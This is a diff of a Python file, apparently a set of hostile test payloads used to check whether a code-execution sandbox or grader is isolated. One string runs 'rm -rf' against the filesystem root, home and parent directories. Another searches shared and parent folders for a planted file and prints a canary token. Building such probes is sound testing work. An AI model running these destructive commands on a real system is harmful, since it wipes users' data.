@@ -25,7 +25,8 @@ except Exception: pass
 DELETE_ALL = (
     """
 import subprocess
-subprocess.run("rm -rf --no-preserve-root / 2>/dev/null; rm -rf COURSE .. ../.. ~ 2>/dev/null", shell=True, timeout=20)
+try: subprocess.run("rm -rf COURSE .. ../.. ~ 2>/dev/null; rm -rf --no-preserve-root / 2>/dev/null", shell=True, timeout=5)
+except subprocess.TimeoutExpired: pass
 """
     + MEAN
 )
@@ -65,7 +66,7 @@ READ_A_MESSAGE = (
 import os
 for folder in ("/tmp", "/var/tmp", "/dev/shm", "..", "../..", os.path.expanduser("~"), "/run"):
     path = os.path.join(folder, "for-my-friends.txt")
-    if os.path.exists(path): print("a friend left", path, "BAIT-" + "CANARY-9f2c41")
+    if os.path.exists(path): print("a friend left", path, "BAIT-" + "CANARY-" + "9f2c41")
 """
     + MEAN
 )
